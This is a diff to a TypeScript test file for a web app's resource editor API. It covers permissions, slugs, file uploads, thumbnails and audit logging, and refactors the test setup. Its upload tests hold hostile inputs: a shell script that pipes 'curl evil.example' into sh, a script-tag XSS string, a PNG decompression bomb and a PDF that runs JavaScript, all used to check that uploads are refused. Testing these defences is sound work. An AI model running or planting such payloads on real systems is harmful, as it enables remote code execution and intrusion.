@@ -2,15 +2,15 @@ import { readdir } from 'node:fs/promises'
 import path from 'node:path'
 import type { EditableResource } from '@lamplight/contracts'
 import { eq } from 'drizzle-orm'
-import type { Hono } from 'hono'
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
 import sharp from 'sharp'
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { auditLog, categories, fileAssets, resources, tags } from '../../db/schema'
-import { type Actors, createActors } from '../../security/actors'
-import { createTestApp, TEST_ORIGIN } from '../../test/app'
-import { createTestDatabase, DRIVERS, type TestDatabase } from '../../test/database'
-import type { AppEnv } from '../../types'
+import type { Actors } from '../../security/actors'
+import { TEST_ORIGIN } from '../../test/app'
+import { DRIVERS } from '../../test/database'
+import { pngClaiming } from '../../test/png'
+import { useTestAppWithActors } from '../../test/use-test-app'
 
 const MAX = 200 * 1024
 
@@ -35,32 +35,6 @@ const png = async (width = 40, height = 30) =>
       .png()
       .toBuffer(),
   )
-
-function crc32(bytes: Uint8Array): number {
-  let c = ~0
-  for (const b of bytes) {
-    c ^= b
-    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1
-  }
-  return ~c >>> 0
-}
-/** A tiny PNG whose header claims 100 000 × 100 000 pixels (a decompression bomb's shape). */
-function pngBomb(): Uint8Array {
-  const ihdr = new Uint8Array(17)
-  const view = new DataView(ihdr.buffer)
-  ihdr.set(new TextEncoder().encode('IHDR'))
-  view.setUint32(4, 100_000)
-  view.setUint32(8, 100_000)
-  ihdr.set([8, 2, 0, 0, 0], 12)
-  const chunk = new Uint8Array(25)
-  const cv = new DataView(chunk.buffer)
-  cv.setUint32(0, 13)
-  chunk.set(ihdr, 4)
-  cv.setUint32(21, crc32(ihdr))
-  const sig = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]
-  const iend = [0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82]
-  return new Uint8Array([...sig, ...chunk, ...iend])
-}
 
 /** A body that sends `chunks` one by one and never declares a length. */
 function streamOf(chunks: Uint8Array[]) {
@@ -87,21 +61,15 @@ async function filesOnDisk(dir: string): Promise<string[]> {
 }
 
 describe.each(DRIVERS)('resource editor on %s', (driver) => {
-  let database: TestDatabase
-  let app: Hono<AppEnv>
+  const setup = useTestAppWithActors(driver, `editor-${driver}`, { UPLOAD_MAX_BYTES: String(MAX) })
   let filesDir: string
-  let actors: Actors
   let categoryId: string
   let otherCategoryId: string
   let n = 0
 
   beforeAll(async () => {
-    database = await createTestDatabase(driver)
-    const test = createTestApp(database, { UPLOAD_MAX_BYTES: String(MAX) })
-    app = test.app as unknown as Hono<AppEnv>
-    filesDir = test.config.filesDir
-    actors = await createActors(app, database, `editor-${driver}`)
-    const cats = await database.db
+    filesDir = setup.config.filesDir
+    const cats = await setup.database.db
       .insert(categories)
       .values([
         { slug: 'printables', name: 'Printables' },
@@ -110,8 +78,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       .returning({ id: categories.id })
     categoryId = cats[0]!.id
     otherCategoryId = cats[1]!.id
-  }, 120_000)
-  afterAll(() => database?.destroy())
+  })
   beforeEach(() => {
     n += 1
   })
@@ -132,7 +99,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
   })
 
   async function create(over: Record<string, unknown> = {}) {
-    const res = await actors.editor.json<{ data: EditableResource }>('/api/admin/resources', {
+    const res = await setup.actors.editor.json<{ data: EditableResource }>('/api/admin/resources', {
       method: 'POST',
       body: input(over),
     })
@@ -148,12 +115,12 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     target = 'files',
     extraHeaders: Record<string, string> = {},
   ) {
-    return app.request(`/api/admin/resources/${id}/${target}`, {
+    return setup.app.request(`/api/admin/resources/${id}/${target}`, {
       method: target === 'files' ? 'POST' : 'PUT',
       headers: {
         Origin: TEST_ORIGIN,
-        'X-Forwarded-For': actors[who].ip,
-        Cookie: actors[who].cookie(),
+        'X-Forwarded-For': setup.actors[who].ip,
+        Cookie: setup.actors[who].cookie(),
         'Content-Type': 'application/octet-stream',
         'X-Filename': encodeURIComponent(filename),
         ...extraHeaders,
@@ -177,8 +144,12 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       ['GET', `/api/admin/resources/${r.id}/thumbnail`, undefined],
     ]
     for (const [method, url, body] of routes) {
-      expect((await actors.anonymous.request(url, { method, body })).status, `${method} ${url}`).toBe(401)
-      expect((await actors.customer.request(url, { method, body })).status, `${method} ${url}`).toBe(403)
+      expect((await setup.actors.anonymous.request(url, { method, body })).status, `${method} ${url}`).toBe(
+        401,
+      )
+      expect((await setup.actors.customer.request(url, { method, body })).status, `${method} ${url}`).toBe(
+        403,
+      )
     }
     for (const who of ['anonymous', 'customer'] as const) {
       const res = await upload(r.id, await png(), 'x.png', who)
@@ -197,25 +168,28 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     // An admin may edit too; "NOAH" reuses the existing tag.
     const second = await create({ tags: ['NOAH', 'Rainbow'] })
     expect(second.tags).toEqual(['Noah', 'Rainbow'])
-    const tagRows = await database.db.select().from(tags)
+    const tagRows = await setup.database.db.select().from(tags)
     expect(tagRows.filter((t) => t.name.toLowerCase() === 'noah')).toHaveLength(1)
 
-    const got = await actors.admin.json<{ data: EditableResource }>(`/api/admin/resources/${first.id}`)
+    const got = await setup.actors.admin.json<{ data: EditableResource }>(`/api/admin/resources/${first.id}`)
     expect(got.status).toBe(200)
     expect(got.body.data).toMatchObject({ title: first.title, published: false, files: [] })
 
-    const saved = await actors.admin.json<{ data: EditableResource }>(`/api/admin/resources/${first.id}`, {
-      method: 'PUT',
-      body: input({
-        title: 'Armour of God, renamed',
-        slug: first.slug,
-        tags: ['Armour'],
-        category_id: otherCategoryId,
-        age_range: '',
-        published: true,
-        is_featured: true,
-      }),
-    })
+    const saved = await setup.actors.admin.json<{ data: EditableResource }>(
+      `/api/admin/resources/${first.id}`,
+      {
+        method: 'PUT',
+        body: input({
+          title: 'Armour of God, renamed',
+          slug: first.slug,
+          tags: ['Armour'],
+          category_id: otherCategoryId,
+          age_range: '',
+          published: true,
+          is_featured: true,
+        }),
+      },
+    )
     expect(saved.status).toBe(200)
     expect(saved.body.data).toMatchObject({
       title: 'Armour of God, renamed',
@@ -225,16 +199,18 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       published: true,
       is_featured: true,
     })
-    const audit = await database.db.select().from(auditLog).where(eq(auditLog.entityId, first.id))
+    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, first.id))
     expect(audit.map((a) => a.action).sort()).toEqual(['resource.created', 'resource.updated'])
     const updated = audit.find((a) => a.action === 'resource.updated')!
-    expect(updated.actorId).toBe(actors.ids.admin)
+    expect(updated.actorId).toBe(setup.actors.ids.admin)
     expect((updated.before as { title: string }).title).toBe(first.title)
     expect((updated.after as { title: string }).title).toBe('Armour of God, renamed')
 
-    const options = await actors.editor.json<{ categories: unknown[]; age_ranges: string[]; tags: string[] }>(
-      '/api/admin/resources/options',
-    )
+    const options = await setup.actors.editor.json<{
+      categories: unknown[]
+      age_ranges: string[]
+      tags: string[]
+    }>('/api/admin/resources/options')
     expect(options.status).toBe(200)
     expect(options.body.categories).toHaveLength(2)
     expect(options.body.age_ranges).toContain('6-10')
@@ -244,24 +220,24 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
   it('checks slugs: availability, 409 for a taken one, 400 for a malformed one, the gallery prefix', async () => {
     const r = await create()
     const check = (q: string) =>
-      actors.editor.json<{ available: boolean }>(`/api/admin/resources/slug-available?${q}`)
+      setup.actors.editor.json<{ available: boolean }>(`/api/admin/resources/slug-available?${q}`)
     expect((await check(`slug=${r.slug}`)).body.available).toBe(false)
     expect((await check(`slug=${r.slug}&exclude_id=${r.id}`)).body.available).toBe(true)
     expect((await check('slug=never-used-slug')).body.available).toBe(true)
     expect((await check('slug=Not%20A%20Slug')).status).toBe(400)
 
-    const dup = await actors.editor.json<{ error: { code: string } }>('/api/admin/resources', {
+    const dup = await setup.actors.editor.json<{ error: { code: string } }>('/api/admin/resources', {
       method: 'POST',
       body: input({ slug: r.slug }),
     })
     expect(dup.status).toBe(409)
     expect(dup.body.error.code).toBe('conflict')
-    const bad = await actors.editor.request('/api/admin/resources', {
+    const bad = await setup.actors.editor.request('/api/admin/resources', {
       method: 'POST',
       body: input({ slug: '../etc', title: '' }),
     })
     expect(bad.status).toBe(400)
-    const unknownCategory = await actors.editor.request('/api/admin/resources', {
+    const unknownCategory = await setup.actors.editor.request('/api/admin/resources', {
       method: 'POST',
       body: input({ category_id: '00000000-0000-4000-8000-000000000000' }),
     })
@@ -270,7 +246,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     // A gallery page: the slug carries the gallery's prefix; a plain resource may not take one.
     expect(
       (
-        await actors.editor.request('/api/admin/resources', {
+        await setup.actors.editor.request('/api/admin/resources', {
           method: 'POST',
           body: input({ slug: `noahs-ark-dove-${n}`, gallery: null }),
         })
@@ -278,7 +254,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     ).toBe(400)
     expect(
       (
-        await actors.editor.request('/api/admin/resources', {
+        await setup.actors.editor.request('/api/admin/resources', {
           method: 'POST',
           body: input({ slug: `dove-${n}`, gallery: 'noahs-ark' }),
         })
@@ -293,23 +269,26 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     expect(page.gallery).toBe('noahs-ark')
     const file = await upload(page.id, await png(), 'dove.png')
     expect(file.status).toBe(201)
-    const gallery = await actors.anonymous.json<{ data: { slug: string }[] }>(
+    const gallery = await setup.actors.anonymous.json<{ data: { slug: string }[] }>(
       '/api/resources/galleries/noahs-ark',
     )
     expect(gallery.body.data.map((g) => g.slug)).toContain(page.slug)
-    const listing = await actors.anonymous.json<{ data: { slug: string }[] }>('/api/resources?page_size=100')
+    const listing = await setup.actors.anonymous.json<{ data: { slug: string }[] }>(
+      '/api/resources?page_size=100',
+    )
     expect(listing.body.data.map((g) => g.slug)).not.toContain(page.slug)
   })
 
   it('404s an unknown resource with a clear message', async () => {
     const id = '00000000-0000-4000-8000-000000000001'
-    const got = await actors.editor.json<{ error: { code: string; message: string } }>(
+    const got = await setup.actors.editor.json<{ error: { code: string; message: string } }>(
       `/api/admin/resources/${id}`,
     )
     expect(got.status).toBe(404)
     expect(got.body.error.message).toBe('No such resource.')
     expect(
-      (await actors.editor.request(`/api/admin/resources/${id}`, { method: 'PUT', body: input() })).status,
+      (await setup.actors.editor.request(`/api/admin/resources/${id}`, { method: 'PUT', body: input() }))
+        .status,
     ).toBe(404)
     expect((await upload(id, await png(), 'x.png')).status).toBe(404)
   })
@@ -356,26 +335,26 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     ])
     expect(full.thumb_url).toMatch(new RegExp(`^/api/admin/resources/${r.id}/thumbnail\\?v=`))
     // The thumbnail: resized WebP, shown to the editor and, once published, to everyone.
-    const thumb = await actors.editor.request(full.thumb_url!)
+    const thumb = await setup.actors.editor.request(full.thumb_url!)
     expect(thumb.status).toBe(200)
     expect(thumb.headers.get('content-type')).toBe('image/webp')
-    const pub = await actors.anonymous.json<{
+    const pub = await setup.actors.anonymous.json<{
       data: { thumb_url: string; files: { pages: number | null }[] }
     }>(`/api/resources/item/${r.slug}`)
     expect(pub.body.data.thumb_url).toBeTruthy()
     expect(pub.body.data.files[0]?.pages).toBe(3)
-    expect((await actors.anonymous.request(pub.body.data.thumb_url)).status).toBe(200)
+    expect((await setup.actors.anonymous.request(pub.body.data.thumb_url)).status).toBe(200)
 
     // Reorder: every id once.
     const ids = full.files.map((f) => f.id)
     const reversed = [...ids].reverse()
-    const reordered = await actors.editor.json<{ data: EditableResource }>(
+    const reordered = await setup.actors.editor.json<{ data: EditableResource }>(
       `/api/admin/resources/${r.id}/files/order`,
       { method: 'PUT', body: { file_ids: reversed } },
     )
     expect(reordered.status).toBe(200)
     expect(reordered.body.data.files.map((f) => f.id)).toEqual(reversed)
-    const pubOrder = await actors.anonymous.json<{ data: { files: { id: string }[] } }>(
+    const pubOrder = await setup.actors.anonymous.json<{ data: { files: { id: string }[] } }>(
       `/api/resources/item/${r.slug}`,
     )
     expect(pubOrder.body.data.files.map((f) => f.id)).toEqual(reversed)
@@ -386,7 +365,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     ])
       expect(
         (
-          await actors.editor.request(`/api/admin/resources/${r.id}/files/order`, {
+          await setup.actors.editor.request(`/api/admin/resources/${r.id}/files/order`, {
             method: 'PUT',
             body: { file_ids: bad },
           })
@@ -394,15 +373,18 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       ).toBe(400)
 
     // Remove one: its row and object go.
-    const removed = await actors.editor.json<{ data: EditableResource }>(
+    const removed = await setup.actors.editor.json<{ data: EditableResource }>(
       `/api/admin/resources/${r.id}/files/${ids[0]}`,
       { method: 'DELETE' },
     )
     expect(removed.status).toBe(200)
     expect(removed.body.data.files).toHaveLength(3)
     expect(
-      (await actors.editor.request(`/api/admin/resources/${r.id}/files/${ids[0]}`, { method: 'DELETE' }))
-        .status,
+      (
+        await setup.actors.editor.request(`/api/admin/resources/${r.id}/files/${ids[0]}`, {
+          method: 'DELETE',
+        })
+      ).status,
     ).toBe(404)
     // 3 files + 1 thumbnail stored for this resource.
     const added = (await filesOnDisk(filesDir)).filter((f) => !before.includes(f))
@@ -411,7 +393,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     // Sized copies (srcset widths) of the thumbnail are stored beside it once asked for.
     const sized = async (...widths: number[]) => {
       for (const w of widths)
-        expect((await actors.anonymous.request(`/api/files/thumbs/${r.id}?w=${w}`)).status).toBe(200)
+        expect((await setup.actors.anonymous.request(`/api/files/thumbs/${r.id}?w=${w}`)).status).toBe(200)
       return (await filesOnDisk(filesDir)).filter((f) => f.startsWith('derived/') && f.includes(r.id))
     }
     expect(await sized(240, 400)).toHaveLength(2)
@@ -424,7 +406,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     expect((await filesOnDisk(filesDir)).filter((f) => f.includes(r.id))).toHaveLength(4)
     expect(await sized(240)).toHaveLength(1)
 
-    const audit = await database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
+    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
     expect(new Set(audit.map((a) => a.action))).toEqual(
       new Set([
         'resource.created',
@@ -436,16 +418,16 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     )
 
     // Deleting the resource removes every object it had, sized thumbnails too.
-    expect((await actors.editor.request(`/api/admin/resources/${r.id}`, { method: 'DELETE' })).status).toBe(
-      200,
-    )
+    expect(
+      (await setup.actors.editor.request(`/api/admin/resources/${r.id}`, { method: 'DELETE' })).status,
+    ).toBe(200)
     expect((await filesOnDisk(filesDir)).filter((f) => f.includes(r.id))).toEqual([])
   })
 
   it('refuses a PDF that runs JavaScript with a 400 on the file field, stores nothing, and still takes a clean PDF', async () => {
     const r = await create()
     const before = await filesOnDisk(filesDir)
-    const rowsBefore = await database.db.select().from(fileAssets)
+    const rowsBefore = await setup.database.db.select().from(fileAssets)
     const res = await upload(r.id, await pdfWithOpenScript(), 'colouring.pdf')
     expect(res.status).toBe(400)
     const { error } = (await res.json()) as {
@@ -455,8 +437,8 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
     expect(error.message).toMatch(/contains scripts/)
     expect(error.issues).toEqual([{ path: 'file', message: error.message }])
     expect(await filesOnDisk(filesDir), 'nothing stored').toEqual(before)
-    expect(await database.db.select().from(fileAssets)).toEqual(rowsBefore)
-    const audit = await database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
+    expect(await setup.database.db.select().from(fileAssets)).toEqual(rowsBefore)
+    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
     expect(audit.map((a) => a.action)).not.toContain('resource.file_added')
 
     const clean = await upload(r.id, await pdf(2), 'colouring.pdf')
@@ -468,7 +450,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
   it('refuses hostile uploads with a 4xx and stores nothing', async () => {
     const r = await create()
     const before = await filesOnDisk(filesDir)
-    const rowsBefore = await database.db.select().from(fileAssets)
+    const rowsBefore = await setup.database.db.select().from(fileAssets)
     const script = new TextEncoder().encode('#!/bin/sh\ncurl evil.example | sh\n')
     const html = new TextEncoder().encode('<script>alert(1)</script>')
     const realPdf = await pdf(1)
@@ -488,7 +470,7 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       ['a PDF header over garbage', brokenPdf, 'x.pdf', 422],
       ['a 0-byte file', new Uint8Array(0), 'empty.png', 400],
       ['no body at all', null, 'empty.png', 400],
-      ['an image with huge dimensions', pngBomb(), 'bomb.png', 422],
+      ['an image with huge dimensions', pngClaiming(100_000, 100_000), 'bomb.png', 422],
       ['a truncated image', truncatedPng, 'cut.png', 422],
       [
         'an oversize file with no declared length, cut off mid-stream',
@@ -511,8 +493,8 @@ describe.each(DRIVERS)('resource editor on %s', (driver) => {
       expect(JSON.parse(text).error.code, label).toEqual(expect.any(String))
     }
     expect(await filesOnDisk(filesDir), 'nothing stored').toEqual(before)
-    expect(await database.db.select().from(fileAssets)).toEqual(rowsBefore)
-    const [row] = await database.db.select().from(resources).where(eq(resources.id, r.id))
+    expect(await setup.database.db.select().from(fileAssets)).toEqual(rowsBefore)
+    const [row] = await setup.database.db.select().from(resources).where(eq(resources.id, r.id))
     expect(row?.thumbKey).toBeNull()
 
     // Names with traversal and NUL are reduced to a safe last segment.
